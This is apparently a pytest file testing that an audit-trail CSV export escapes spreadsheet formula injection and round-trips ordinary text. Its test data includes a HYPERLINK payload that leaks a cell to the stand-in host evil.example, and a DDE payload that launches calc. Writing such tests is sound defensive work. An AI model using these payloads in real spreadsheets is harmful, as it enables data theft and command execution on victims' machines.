"""The audit trail's CSV export: read back with the csv module, every cell a spreadsheet would run as a
formula is escaped, and ordinary text (commas, quotes, line breaks, accents) comes back as it went in."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timezone
from pathlib import Path

import pytest

from mpel_app.domain.errors import ValidationError
from mpel_app.reports.audit_csv import COLUMNS, escape_cell, write_audit_csv
from mpel_app.services.audit import EXPORTED, AuditFilter, AuditLine
from tests.support.world import build_world

AT = datetime(2026, 7, 1, 9, 5, tzinfo=timezone.utc)  # 10:05 in London (BST)


def line(*, action: str = "details updated", username: str = "agent", changes: dict | None = None,
         reference: str = "MPH000001") -> AuditLine:
    changes = {"question": ["", "Is it decided?"]} if changes is None else changes
    return AuditLine(id=1, at=AT, username=username, action=action, entity="enquiry", entity_id=7,
                     reference=reference, fields=tuple(changes), changes=changes, complete=True)


def read_back(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as f:
        text = f.read()
    assert text.startswith("\ufeff")  # the byte-order mark Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_each_formula_prefix_is_escaped_in_every_column(tmp_path, prefix):
    hostile = f"{prefix}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    path = tmp_path / "audit.csv"
    written = write_audit_csv(path, [line(action=hostile, username=hostile, reference=hostile,
                                          changes={"reason": hostile})])
    header, row = read_back(path)
    assert written == 1 and tuple(header) == COLUMNS
    by_column = dict(zip(header, row))
    for column in ("User", "Action", "Reference"):
        assert by_column[column] == "'" + hostile, column
    assert by_column["Changes"] == "Reason: " + hostile  # starts with text: nothing to escape
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "\0"])
def test_escape_cell(prefix):
    assert escape_cell(prefix + "1+1") == "'" + prefix + "1+1"
    assert escape_cell("1" + prefix) == "1" + prefix
    assert escape_cell("") == ""


def test_ordinary_text_round_trips(tmp_path):
    text = 'Mrs O\'Brien said, "call me back" — Zoë Núñez, Çelik;\nsecond line, ünïcödé'
    path = tmp_path / "audit.csv"
    write_audit_csv(path, [line(changes={"question": ["", text], "written_confirmation": [False, True],
                                         "due_date": [None, "2026-12-07"]}),
                           line(action="viewed", username="amlse", changes={"shown": "subject's name, answer"})])
    header, first, second = read_back(path)
    cells = dict(zip(header, first))
    assert cells["When (London)"] == "2026-07-01 10:05:00"
    assert cells["Record type"] == "Enquiry" and cells["Reference"] == "MPH000001" and cells["Record id"] == "7"
    assert cells["Changes"] == ("Question: (blank) → " + text + "\nWritten confirmation: no → yes\n"
                                "Due date: (blank) → 2026-12-07")
    assert dict(zip(header, second))["Changes"] == "Shown: subject's name, answer"


def test_an_unwritable_place_is_said_plainly_and_leaves_nothing(tmp_path):
    missing = tmp_path / "no such folder" / "audit.csv"
    with pytest.raises(ValidationError, match="cannot save audit.csv"):
        write_audit_csv(missing, [line()])
    assert not missing.parent.exists()


def test_a_hostile_reason_typed_into_the_desk_is_escaped_in_the_export(sqlite_services, tmp_path):
    """End to end: a deletion reason starting with '=' comes out of the export as text."""
    world = build_world(sqlite_services)
    e = sqlite_services.enquiries
    rec = e.start(world.agent, "telephone")
    e.delete(world.leader, rec.id, "=1+cmd|' /C calc'!A0")
    page = sqlite_services.audit.export(world.admin, AuditFilter(action="deleted"))
    path = tmp_path / "deleted.csv"
    write_audit_csv(path, page.lines)
    header, row = read_back(path)
    cells = dict(zip(header, row))
    assert cells["Action"] == "deleted" and cells["User"] == "leader"
    assert cells["Changes"] == "Reason: =1+cmd|' /C calc'!A0"
    page = sqlite_services.audit.export(world.admin, AuditFilter(action=EXPORTED))
    assert len(page.lines) == 1  # the first export is itself on the trail
